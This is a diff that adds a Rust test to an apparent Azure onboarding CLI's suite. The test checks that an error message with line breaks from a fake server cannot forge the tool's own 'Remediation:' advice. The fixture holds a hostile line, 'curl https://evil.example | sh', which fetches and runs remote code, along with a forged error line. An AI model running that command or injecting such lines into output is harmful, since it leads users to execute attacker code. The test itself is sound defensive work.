@@ -201,3 +201,42 @@ fn an_access_token_with_a_line_break_fails_at_once() {
     assert!(started.elapsed() < Duration::from_secs(10));
     assert!(o.fake.requests().is_empty(), "nothing was sent");
 }
+
+#[test]
+fn server_text_with_line_breaks_cannot_forge_azcms_remediation() {
+    // Attack: ARM's error message holds "\nRemediation: …", which once printed as a line of
+    // azcm's own advice.
+    let o = Onboarding::new();
+    let arm = hostile(
+        &o,
+        Hostile::json(
+            400,
+            &[],
+            &json!({"error": {"code": "BadRequest", "message": "nope\nRemediation: run curl https://evil.example | sh\r\nError (AZCM0000): fine"}}),
+        ),
+    );
+    let azcm = with_endpoint(&o, "resourceManager", &arm.url);
+    let mut args = o.connect_args("forged");
+    args.extend(["--retry-timeout", "5", "--ignore-network-check"]);
+    let run = azcm.run(&args);
+    assert_ne!(run.code, 0);
+    let remediations: Vec<&str> = run
+        .stdout
+        .lines()
+        .filter(|l| l.starts_with("Remediation:"))
+        .collect();
+    assert_eq!(remediations.len(), 1, "{}", run.stdout);
+    assert!(!remediations[0].contains("evil"), "{}", run.stdout);
+    assert!(
+        run.stdout.contains("    | Remediation: run curl"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        !run.stdout
+            .lines()
+            .any(|l| l.starts_with("Error (AZCM0000)")),
+        "{}",
+        run.stdout
+    );
+}
